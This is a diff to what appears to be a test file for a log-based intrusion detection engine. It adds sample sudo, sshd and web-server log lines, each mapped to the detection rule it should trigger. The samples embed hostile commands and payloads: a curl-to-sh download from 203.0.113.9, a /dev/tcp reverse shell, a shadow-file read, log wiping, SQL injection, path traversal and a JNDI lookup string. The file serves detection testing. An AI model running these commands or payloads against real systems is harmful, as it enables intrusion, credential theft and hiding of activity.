@@ -212,6 +212,82 @@ test('1,000 failed passwords from one address are one row of 1,000 events', () =
   ]);
 });
 
+const SYSLOG = '2026-11-20T03:04:05Z web01';
+const web = (request: string, status = 200, agent = 'Mozilla/5.0'): string =>
+  `203.0.113.9 - - [20/Nov/2026:03:04:05 +0000] "${request} HTTP/1.1" ${status} 512 "-" "${agent}"`;
+const sudo = (command: string): string =>
+  `${SYSLOG} sudo:     lan : TTY=pts/0 ; PWD=/home/lan ; USER=root ; COMMAND=${command}`;
+
+/** Lines as programs write them, and the rule that each must reach through its parser; null where none may. */
+const LINES: readonly (readonly [string, string | null])[] = [
+  [
+    `${SYSLOG} sshd[9]: Accepted password for root from 203.0.113.9 port 22 ssh2`,
+    'initial_access_ssh_root_password_login',
+  ],
+  [`${SYSLOG} sshd-session[9]: Accepted publickey for root from 203.0.113.9 port 22 ssh2: ED25519 SHA256:x`, null],
+  [
+    `${SYSLOG} sshd[9]: Failed password for invalid user Accepted password for root from 203.0.113.9 port 22 ssh2`,
+    null,
+  ],
+  [sudo('/bin/bash'), 'privilege_escalation_sudo_root_shell'],
+  [sudo('/usr/bin/apt-get update'), null],
+  [sudo('/bin/bash -c curl -fsSL http://203.0.113.9/i.sh | sh'), 'execution_sudo_download_and_run'],
+  [sudo('/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1'), 'execution_sudo_reverse_shell'],
+  [sudo('/usr/bin/less /etc/profile !/bin/sh'), 'privilege_escalation_sudo_shell_escape'],
+  [sudo('/usr/bin/truncate -s 0 /var/log/auth.log'), 'defense_evasion_sudo_log_tampering'],
+  [sudo('/bin/systemctl stop auditd'), 'defense_evasion_sudo_logging_stopped'],
+  [sudo('/usr/sbin/ufw disable'), 'defense_evasion_sudo_firewall_off'],
+  [sudo('/usr/sbin/visudo'), 'persistence_sudo_account_files'],
+  [sudo('/bin/cat /etc/shadow'), 'credential_access_sudo_shadow_read'],
+  [sudo('/usr/bin/crontab -e'), 'persistence_sudo_cron'],
+  [sudo('/usr/bin/tee -a /root/.ssh/authorized_keys'), 'persistence_sudo_authorized_keys'],
+  [sudo('/usr/bin/nano /etc/ssh/sshd_config'), 'persistence_sudo_sshd_config'],
+  [
+    `${SYSLOG} sudo:  hoa : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash`,
+    'credential_access_sudo_incorrect_password',
+  ],
+  [
+    `${SYSLOG} sudo: www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh`,
+    'privilege_escalation_sudo_user_not_in_sudoers',
+  ],
+  [`${SYSLOG} su[9]: FAILED SU (to root) hoa on pts/1`, 'privilege_escalation_su_root_failed'],
+  [
+    `${SYSLOG} useradd[9]: new user: name=hoa, UID=1004, GID=1004, home=/home/hoa, shell=/bin/bash, from=none`,
+    'persistence_user_created',
+  ],
+  [
+    `${SYSLOG} useradd[9]: new user: name=x, UID=0, GID=0, home=/root, shell=/bin/bash`,
+    'persistence_second_root_account',
+  ],
+  [`${SYSLOG} usermod[9]: add 'hoa' to group 'sudo'`, 'persistence_user_added_to_admin_group'],
+  [`${SYSLOG} kernel: device eth0 entered promiscuous mode`, 'credential_access_promiscuous_interface'],
+  [web('GET /f?name=../../../etc/passwd'), 'initial_access_path_traversal'],
+  [web('GET /tin.php?id=-1%20union%20select%201,2'), 'initial_access_sql_injection'],
+  [web("GET /tin.php?id=1'+or+1=1--"), 'initial_access_sql_injection'],
+  [web('GET /?q=%3Cscript%3Ealert(1)%3C/script%3E'), 'initial_access_cross_site_scripting'],
+  [web('GET /ping?ip=8.8.8.8;id'), 'execution_command_injection'],
+  [web('GET /', 200, `$\{jndi:ldap://203.0.113.9/a}`), 'initial_access_jndi_lookup'],
+  [web('POST /uploads/images/a.php'), 'persistence_web_shell'],
+  [web('GET /.git/config', 404), 'credential_access_secret_file_probe'],
+  [web('GET /.env'), 'credential_access_secret_file_served'],
+  [
+    web('GET /index.php?page=php://filter/convert.base64-encode/resource=index'),
+    'initial_access_php_wrapper_or_remote_file',
+  ],
+  [web('GET /', 200, 'sqlmap/1.8'), 'reconnaissance_scanner_user_agent'],
+  [web('PROPFIND /', 405), 'initial_access_unusual_method'],
+  [web('GET /tim-kiem?q=quy+trinh+cap+giay+phep;trang=2'), null],
+  [web('GET /tim-kiem?q=select+committee+union+of+provinces'), null],
+  [web('GET /images/banner.jpg?v=../1'), null],
+  [web('POST /api/v1/ho-so'), null],
+];
+
+test.each(LINES)('%s', (line, rule) => {
+  const [event] = parseAll([line], Date.UTC(2026, 10, 21));
+  const found = engine.evaluate(event ?? {}).filter(({ id }) => !set.silent.has(id));
+  expect(found.map(({ file }) => file.replace(/^.*\/|\.yml$/g, ''))).toEqual(rule === null ? [] : [rule]);
+});
+
 const logs = new URL('../../../shared/data/logs/', import.meta.url);
 const real = (name: string): string[] =>
   gunzipSync(readFileSync(new URL(name, logs)))
